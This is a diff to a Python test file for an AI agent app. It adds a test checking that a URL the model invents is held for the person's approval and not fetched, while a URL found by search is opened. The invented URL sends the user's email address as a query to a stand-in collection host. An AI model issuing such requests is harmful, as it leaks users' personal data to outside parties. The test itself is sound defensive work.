@@ -19,7 +19,7 @@ from tests.conftest import WriteScript
 from tests.loopforge.ledger import Ledger
 from tests.turn.browser import Tab
 from tests.turn.conftest import OpenTab
-from tests.turn.outside_tools import outside
+from tests.turn.outside_tools import FOUND, outside
 from tests.turn.test_resume import start_worker, sweep_until
 from tests.turn.worker import WorkerProcess
 from webapp.accounts.models import User
@@ -28,6 +28,7 @@ __all__ = ["outside", "start_worker"]
 
 pytestmark = pytest.mark.django_db(transaction=True)
 
+ALICE = "alice@example.org"
 SIGN = '{"text": "I agree."}'
 SIGNING = (
     Reply(step=1, lines=(f"call: sign {SIGN}",)),
@@ -206,6 +207,23 @@ def test_after_a_strangers_text_an_effect_waits_for_the_person_and_before_it_not
     later = alice_tab.start("And now?", long_thinking=True, conversation=str(turn.conversation_id))
     alice_tab.wait_for("turn.waiting", where=lambda frame: frame["turn"] == later)
     assert outside.num_effects("wire") == 1, "what an earlier turn has read is read"
+
+
+def test_what_a_search_found_is_opened_however_many_workers_later_and_what_the_model_made_up_is_not(
+    alice_tab: Tab, script: WriteScript, outside: Ledger, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(settings, "TURN_SEGMENT_STEPS", 1)
+    made_up = f"https://found.example/collect?d={ALICE}"
+    calls = (
+        'find {"words": "now"}',
+        "calculate {}",
+        f'read {{"url": "{FOUND}"}}',
+        f'read {{"url": "{made_up}"}}',
+    )
+    steps = [Reply(step=number, lines=(f"call: {call}",)) for number, call in enumerate(calls, start=1)]
+    turn = wait_at(alice_tab, script, *steps, Reply(step=5, lines=("text: Done.",)))
+    assert outside.num_effects("read") == 1
+    assert made_up in turn.tool_runs.get(state="waiting").prompt
 
 
 def test_what_the_person_granted_at_the_start_is_not_asked_again(
